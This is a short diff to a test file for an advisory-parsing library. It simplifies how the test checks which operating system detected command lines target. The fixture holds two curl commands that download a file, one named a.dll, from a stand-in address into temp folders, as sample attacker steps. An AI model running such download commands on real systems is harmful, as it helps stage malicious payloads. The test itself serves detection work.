@@ -1,4 +1,4 @@
-import { findBehaviours, isUntyped } from '@tripline/advisory';
+import { findBehaviours } from '@tripline/advisory';
 import fc from 'fast-check';
 import { markdownAdvisory, textAdvisory } from './support/documents.js';
 
@@ -79,9 +79,8 @@ describe('command lines in running text', () => {
       '# Case\n\n```\ncurl -o C:\\Temp\\a.dll http://192.0.2.1/a\ncurl -o /tmp/a http://192.0.2.1/a\n```\n',
     );
     const systems = findBehaviours(doc)
-      .filter(isUntyped)
-      .filter(({ kind }) => kind === 'command')
-      .map(({ details }) => details['system']);
+      .filter((each) => each.kind === 'command')
+      .map(({ system }) => system);
     expect(systems).toEqual(['windows', 'linux']);
   });
 
